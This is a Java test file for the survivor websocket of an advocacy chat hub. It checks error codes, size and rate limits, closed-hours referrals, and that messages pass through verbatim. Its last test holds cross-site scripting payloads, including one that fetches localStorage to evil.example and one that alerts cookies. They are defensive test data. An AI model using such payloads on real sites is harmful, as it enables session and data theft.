@@ -1,0 +1,452 @@
+package org.hearthhub.ws;
+
+import io.vertx.core.Vertx;
+import io.vertx.core.json.JsonArray;
+import io.vertx.core.json.JsonObject;
+import io.vertx.junit5.VertxExtension;
+import org.hearthhub.settings.ProgramSettings;
+import org.hearthhub.testing.TestHub;
+import org.hearthhub.testing.WsClient;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
+import org.junit.jupiter.api.io.TempDir;
+
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.time.LocalTime;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertNotNull;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+/**
+ * Every error the survivor socket can answer (PROTOCOL.md), each followed by proof that the same
+ * socket still works: a bad frame costs the sender one error, never the chat.
+ */
+@ExtendWith(VertxExtension.class)
+class SurvivorBadInputTest {
+    @TempDir
+    Path dataDir;
+    Vertx vertx;
+    TestHub hub;
+    private int okCount;
+
+    @BeforeEach
+    void remember(Vertx vertx) {
+        this.vertx = vertx;
+    }
+
+    @AfterEach
+    void stop() throws Exception {
+        if (hub != null) hub.close();
+    }
+
+    private TestHub hub() throws Exception {
+        return hub(Map.of());
+    }
+
+    private TestHub hub(Map<String, String> env) throws Exception {
+        hub = TestHub.start(vertx, dataDir, env);
+        return hub;
+    }
+
+    /** A survivor socket that has started a chat, so every check below can send a real message. */
+    private WsClient chattingSurvivor() throws Exception {
+        WsClient survivor = hub.survivor();
+        survivor.send("start", "lang", "en");
+        survivor.await("started");
+        return survivor;
+    }
+
+    private static JsonObject assertError(WsClient ws, String code) {
+        JsonObject error = ws.await("error");
+        assertEquals(code, error.getString("code"), "error frame: " + error);
+        String message = error.getString("message");
+        assertNotNull(message, "every error carries a human message");
+        assertFalse(message.isBlank() || message.startsWith("error."), "a translated message, not a key: " + message);
+        return error;
+    }
+
+    /** The socket still does real work: a fresh message is acknowledged. */
+    private void assertStillUsable(WsClient survivor) {
+        String clientId = "ok-" + (++okCount);
+        survivor.send("message", "clientId", clientId, "text", "still here");
+        JsonObject ack = survivor.await("ack");
+        assertEquals(clientId, ack.getString("clientId"));
+        assertTrue(ack.getLong("seq") > 0);
+        assertFalse(survivor.isClosed());
+    }
+
+    private void assertBadRawFrames(WsClient survivor, String expectedCode, String... frames) {
+        for (String frame : frames) {
+            survivor.sendRaw(frame);
+            assertError(survivor, expectedCode);
+            assertStillUsable(survivor);
+        }
+    }
+
+    @Test
+    void malformedJsonIsABadRequestAndSocketStaysUsable() throws Exception {
+        hub();
+        WsClient survivor = chattingSurvivor();
+        assertBadRawFrames(survivor, "bad_request",
+                "{not json", "{\"type\":\"message\"", "", "   ", "type=message", "{\"type\":\"message\",}");
+    }
+
+    @Test
+    void jsonThatIsNotAnObjectIsABadRequest() throws Exception {
+        hub();
+        WsClient survivor = chattingSurvivor();
+        assertBadRawFrames(survivor, "bad_request",
+                "[]", "[{\"type\":\"typing\"}]", "42", "\"typing\"", "null", "true");
+    }
+
+    @Test
+    void frameWithoutAStringTypeIsABadRequest() throws Exception {
+        hub();
+        WsClient survivor = chattingSurvivor();
+        assertBadRawFrames(survivor, "bad_request",
+                "{}", "{\"text\":\"hi\",\"clientId\":\"x\"}", "{\"type\":null}", "{\"type\":5}", "{\"type\":[\"message\"]}",
+                "{\"type\":{\"name\":\"message\"}}");
+    }
+
+    @Test
+    void deeplyNestedJsonIsABadRequest() throws Exception {
+        hub();
+        WsClient survivor = chattingSurvivor();
+        String nested = "{\"type\":\"typing\",\"x\":" + "[".repeat(5000) + "]".repeat(5000) + "}";
+        assertBadRawFrames(survivor, "bad_request", nested);
+    }
+
+    @Test
+    void fieldsOfTheWrongTypeAreBadRequests() throws Exception {
+        hub();
+        WsClient survivor = chattingSurvivor();
+        assertBadRawFrames(survivor, "bad_request",
+                "{\"type\":\"message\",\"clientId\":\"w1\",\"text\":5}",
+                "{\"type\":\"message\",\"clientId\":\"w2\",\"text\":[\"hi\"]}",
+                "{\"type\":\"message\",\"clientId\":\"w3\",\"text\":{\"html\":\"hi\"}}",
+                "{\"type\":\"message\",\"clientId\":7,\"text\":\"hi\"}",
+                "{\"type\":\"message\",\"text\":\"no clientId\"}",
+                "{\"type\":\"message\",\"clientId\":\"   \",\"text\":\"blank clientId\"}",
+                "{\"type\":\"message\",\"clientId\":\"" + "c".repeat(65) + "\",\"text\":\"clientId too long\"}");
+    }
+
+    @Test
+    void startAndResumeWithWrongFieldTypesAreBadRequests() throws Exception {
+        hub();
+        WsClient survivor = hub.survivor();
+        for (String frame : List.of(
+                "{\"type\":\"start\",\"lang\":5}",
+                "{\"type\":\"start\",\"lang\":[\"en\"]}",
+                "{\"type\":\"resume\",\"token\":12345,\"lastSeq\":0}",
+                "{\"type\":\"resume\",\"token\":\"abc\",\"lastSeq\":\"3\"}",
+                "{\"type\":\"resume\",\"token\":\"abc\",\"lastSeq\":1.5}")) {
+            survivor.sendRaw(frame);
+            assertError(survivor, "bad_request");
+        }
+        survivor.send("start", "lang", "en");
+        assertEquals(1, survivor.await("started").getInteger("position"), "the socket still starts a chat");
+    }
+
+    @Test
+    void unknownTypeIsAnsweredWithUnknownType() throws Exception {
+        hub();
+        WsClient survivor = chattingSurvivor();
+        assertBadRawFrames(survivor, "unknown_type",
+                "{\"type\":\"hello\"}", "{\"type\":\"MESSAGE\",\"clientId\":\"u1\",\"text\":\"hi\"}", "{\"type\":\"\"}",
+                "{\"type\":\"shift.start\"}", "{\"type\":\"accept\",\"conversation\":\"x\"}");
+    }
+
+    @Test
+    void oversizedFrameIsRefusedAndSocketStaysUsable() throws Exception {
+        hub();
+        int max = hub.hub.config().limits().maxFrameBytes();
+        WsClient survivor = chattingSurvivor();
+
+        survivor.sendRaw(frameOfBytes(max + 1));
+        assertError(survivor, "too_large");
+        assertStillUsable(survivor);
+
+        // Few characters, many bytes: the limit is in bytes, as operators configure it.
+        String euros = "€".repeat(max / 3 + 10);
+        survivor.sendRaw(new JsonObject().put("type", "typing").put("pad", euros).encode());
+        assertError(survivor, "too_large");
+        assertStillUsable(survivor);
+
+        survivor.sendRaw(frameOfBytes(max * 3));
+        assertError(survivor, "too_large");
+        assertStillUsable(survivor);
+    }
+
+    @Test
+    void frameOfExactlyTheLimitIsAccepted() throws Exception {
+        hub();
+        int max = hub.hub.config().limits().maxFrameBytes();
+        WsClient survivor = chattingSurvivor();
+        String frame = frameOfBytes(max);
+        assertEquals(max, frame.getBytes(StandardCharsets.UTF_8).length);
+        survivor.sendRaw(frame);
+        assertEquals("edge", survivor.await("ack").getString("clientId"));
+        survivor.expectNone("error", 200);
+    }
+
+    /** A valid message frame padded with an ignored field to exactly {@code bytes} UTF-8 bytes. */
+    private static String frameOfBytes(int bytes) {
+        String head = "{\"type\":\"message\",\"clientId\":\"edge\",\"text\":\"hi\",\"pad\":\"";
+        String tail = "\"}";
+        return head + "x".repeat(bytes - head.length() - tail.length()) + tail;
+    }
+
+    @Test
+    void messageTextOverFourThousandCharsIsTooLarge() throws Exception {
+        hub();
+        WsClient survivor = chattingSurvivor();
+        survivor.send("message", "clientId", "long", "text", "a".repeat(4001));
+        assertError(survivor, "too_large");
+        assertStillUsable(survivor);
+
+        survivor.send("message", "clientId", "longest", "text", "a".repeat(4000));
+        assertEquals("longest", survivor.await("ack").getString("clientId"), "4,000 characters is still allowed");
+    }
+
+    @Test
+    void emptyTextIsABadRequest() throws Exception {
+        hub();
+        WsClient survivor = chattingSurvivor();
+        survivor.send("message", "clientId", "e1", "text", "");
+        assertError(survivor, "bad_request");
+        assertStillUsable(survivor);
+        survivor.send("message", "clientId", "e2", "text", " \n\t ");
+        assertError(survivor, "bad_request");
+        assertStillUsable(survivor);
+        survivor.send("message", "clientId", "e3");
+        assertError(survivor, "bad_request");
+        assertStillUsable(survivor);
+    }
+
+    @Test
+    void unknownResumeTokenIsRefusedAndSocketCanStillResumeOrStart() throws Exception {
+        hub();
+        JsonObject started;
+        try (WsClient first = hub.survivor()) {
+            first.send("start", "lang", "en");
+            started = first.await("started");
+        }
+        WsClient survivor = hub.survivor();
+        survivor.send("resume", "token", "no-such-token", "lastSeq", 0);
+        assertError(survivor, "unknown_token");
+        survivor.send("resume", "token", "", "lastSeq", 0);
+        assertError(survivor, "unknown_token");
+        survivor.send("resume", "lastSeq", 0);
+        assertError(survivor, "unknown_token");
+        survivor.send("resume", "token", started.getString("conversation"), "lastSeq", 0);
+        assertError(survivor, "unknown_token");
+
+        survivor.send("resume", "token", started.getString("token"), "lastSeq", 0);
+        assertEquals(started.getString("conversation"), survivor.await("resumed").getString("conversation"));
+        assertStillUsable(survivor);
+    }
+
+    @Test
+    void chatFramesBeforeStartAreBadRequestsAndStartTwiceIsRefused() throws Exception {
+        hub();
+        WsClient survivor = hub.survivor();
+        survivor.send("message", "clientId", "early", "text", "hello?");
+        assertError(survivor, "bad_request");
+        survivor.send("typing");
+        assertError(survivor, "bad_request");
+        survivor.send("end");
+        assertError(survivor, "bad_request");
+
+        survivor.send("start", "lang", "en");
+        survivor.await("started");
+        survivor.send("start", "lang", "en");
+        assertError(survivor, "bad_request");
+        survivor.send("resume", "token", "anything", "lastSeq", 0);
+        assertError(survivor, "bad_request");
+        assertStillUsable(survivor);
+    }
+
+    @Test
+    void binaryFramesAreBadRequests() throws Exception {
+        hub();
+        WsClient survivor = chattingSurvivor();
+        survivor.sendBinary("{\"type\":\"message\",\"clientId\":\"b\",\"text\":\"hi\"}".getBytes(StandardCharsets.UTF_8));
+        assertError(survivor, "bad_request");
+        assertStillUsable(survivor);
+        survivor.sendBinary(new byte[]{0, 1, 2, (byte) 0xff});
+        assertError(survivor, "bad_request");
+        assertStillUsable(survivor);
+    }
+
+    @Test
+    void frameFloodIsRateLimitedAndSocketRecovers() throws Exception {
+        hub();
+        WsClient survivor = chattingSurvivor();
+        // Frames that are always answered, so the test knows when the hub has read the whole flood.
+        for (int i = 0; i < 60; i++) survivor.sendRaw("{\"type\":\"nudge\"}");
+        List<String> codes = errorCodes(survivor, 60);
+        assertTrue(codes.contains("unknown_type"), "the first frames of the second are read: " + codes);
+        assertTrue(codes.indexOf("rate_limited") >= 19, "at most 20 frames a second are read: " + codes);
+        assertTrue(codes.stream().filter("rate_limited"::equals).count() >= 20, "the rest are refused: " + codes);
+        Thread.sleep(1000); // the per-socket budget is per second of wall time
+        assertStillUsable(survivor);
+    }
+
+    @Test
+    void binaryFloodIsRateLimitedToo() throws Exception {
+        hub();
+        WsClient survivor = chattingSurvivor();
+        for (int i = 0; i < 60; i++) survivor.sendBinary(new byte[]{1});
+        List<String> codes = errorCodes(survivor, 60);
+        assertTrue(codes.contains("bad_request"), codes.toString());
+        assertTrue(codes.stream().filter("rate_limited"::equals).count() >= 20, "binary frames count against the budget: " + codes);
+        Thread.sleep(1000);
+        assertStillUsable(survivor);
+    }
+
+    /** Each flooded frame is answered exactly once, with an error or with rate_limited. */
+    static List<String> errorCodes(WsClient ws, int frames) {
+        List<String> codes = new ArrayList<>();
+        for (int i = 0; i < frames; i++) codes.add(ws.await("error").getString("code"));
+        return codes;
+    }
+
+    @Test
+    void messagesPerMinuteAreLimitedPerConversation() throws Exception {
+        hub(Map.of("HEARTH_LIMITS_SURVIVOR_MESSAGES_PER_MINUTE", "3"));
+        WsClient survivor = chattingSurvivor();
+        for (int i = 1; i <= 3; i++) {
+            survivor.send("message", "clientId", "m" + i, "text", "message " + i);
+            assertEquals("m" + i, survivor.await("ack").getString("clientId"));
+        }
+        survivor.send("message", "clientId", "m4", "text", "one too many");
+        assertError(survivor, "rate_limited");
+
+        WsClient other = chattingSurvivor();
+        other.send("message", "clientId", "o1", "text", "a different conversation has its own budget");
+        assertEquals("o1", other.await("ack").getString("clientId"));
+
+        hub.clock.advance(Duration.ofSeconds(61));
+        survivor.send("message", "clientId", "m4", "text", "one too many");
+        assertEquals(4L, survivor.await("ack").getLong("seq"), "the refused message was not stored, so it gets the next seq");
+    }
+
+    @Test
+    void tooManyNewChatsPerMinuteAreRateLimited() throws Exception {
+        hub(Map.of("HEARTH_LIMITS_STARTS_PER_MINUTE", "1"));
+        chattingSurvivor();
+        WsClient second = hub.survivor();
+        second.send("start", "lang", "en");
+        assertError(second, "rate_limited");
+        hub.clock.advance(Duration.ofSeconds(61));
+        second.send("start", "lang", "en");
+        assertEquals(2, second.await("started").getInteger("position"));
+    }
+
+    @Test
+    void fullQueueAnswersQueueFullUntilAPlaceFrees() throws Exception {
+        hub(Map.of("HEARTH_QUEUE_MAX_LENGTH", "1"));
+        WsClient first = chattingSurvivor();
+        WsClient second = hub.survivor();
+        second.send("start", "lang", "en");
+        assertError(second, "queue_full");
+        second.send("start", "lang", "en");
+        assertError(second, "queue_full");
+
+        first.send("end");
+        first.await("ended");
+        second.send("start", "lang", "en");
+        assertEquals(1, second.await("started").getInteger("position"));
+        assertStillUsable(second);
+    }
+
+    @Test
+    void closedHoursAnswerWithReferralsInTheSurvivorsLanguage() throws Exception {
+        hub();
+        // The test clock reads Monday 2026-11-23 15:00 UTC; open only on Tuesdays.
+        ProgramSettings open = TestHub.await(hub.hub.settingsStore().programSettings());
+        ProgramSettings tuesdaysOnly = new ProgramSettings(open.timeZone(),
+                List.of(new ProgramSettings.WeeklySlot(2, LocalTime.of(9, 0), LocalTime.of(17, 0))),
+                open.holidays(), open.referrals(), open.cannedResponses(), open.widget(), open.retention());
+        TestHub.await(hub.hub.settingsStore().saveProgramSettings(tuesdaysOnly));
+        TestHub.await(hub.hub.settings().reload());
+
+        WsClient survivor = hub.survivor();
+        survivor.send("start", "lang", "en");
+        JsonObject closed = survivor.await("closed");
+        JsonArray referrals = closed.getJsonArray("referrals");
+        assertFalse(referrals.isEmpty());
+        assertEquals("National Domestic Violence Hotline", referrals.getJsonObject(0).getString("name"));
+        assertEquals("1-800-799-7233", referrals.getJsonObject(0).getString("phone"));
+        assertEquals("2026-11-24T09:00:00Z", closed.getString("opensAt"));
+        survivor.expectNone("started", 100);
+
+        survivor.send("start", "lang", "es");
+        JsonObject cerrado = survivor.await("closed");
+        assertEquals("Línea Nacional de Violencia Doméstica",
+                cerrado.getJsonArray("referrals").getJsonObject(0).getString("name"));
+
+        TestHub.await(hub.hub.settingsStore().saveProgramSettings(open));
+        TestHub.await(hub.hub.settings().reload());
+        survivor.send("start", "lang", "en");
+        assertEquals(1, survivor.await("started").getInteger("position"), "the same socket starts once the program opens");
+    }
+
+    @Test
+    void scriptPayloadsTravelVerbatimInBothDirections() throws Exception {
+        hub();
+        List<String> payloads = List.of(
+                "<script>alert(1)</script>",
+                "\"><img src=x onerror=alert(document.cookie)>",
+                "</script><script>fetch('//evil.example/'+localStorage.x)</script>",
+                "<svg/onload=alert(1)> javascript:alert(1) {{7*7}} ${7*7} #{7*7}",
+                "&lt;b&gt;already escaped&lt;/b&gt; &amp; &#60;",
+                "line one\nline two\t\"quoted\" \\ back\\slash \u0000 nul",
+                "\u202Eright-to-left override\u202C 🙂 ünïcödé");
+        WsClient advocate = hub.advocateOnShift("maria");
+        WsClient survivor = hub.survivor();
+        survivor.send("start", "lang", "en");
+        JsonObject started = survivor.await("started");
+        String id = started.getString("conversation");
+        advocate.send("accept", "conversation", id);
+        advocate.await("conversation");
+        survivor.await("assigned");
+
+        int seq = 0;
+        for (String payload : payloads) {
+            survivor.send("message", "clientId", "s" + seq, "text", payload);
+            survivor.await("ack");
+            int fromSurvivor = ++seq;
+            assertEquals(payload, advocate.awaitMatching("message", m -> m.getInteger("seq") == fromSurvivor).getString("text"));
+
+            advocate.send("message", "conversation", id, "clientId", "a" + seq, "text", payload);
+            advocate.await("ack");
+            assertEquals(payload, survivor.await("message").getString("text"));
+            seq++;
+        }
+
+        // Replays from the store are verbatim too: a resumed widget and a console that takes over the chat.
+        survivor.kill();
+        WsClient resumed = hub.survivor();
+        resumed.send("resume", "token", started.getString("token"), "lastSeq", 0);
+        resumed.await("resumed");
+        for (int i = 0; i < payloads.size() * 2; i++) assertEquals(payloads.get(i / 2), resumed.await("message").getString("text"));
+
+        WsClient ana = hub.advocateOnShift("ana");
+        advocate.send("transfer", "conversation", id, "to", "ana");
+        JsonArray transcript = ana.await("conversation").getJsonArray("messages");
+        assertEquals(payloads.size() * 2, transcript.size());
+        for (int i = 0; i < transcript.size(); i++) {
+            assertEquals(payloads.get(i / 2), transcript.getJsonObject(i).getString("text"));
+        }
+    }
+}
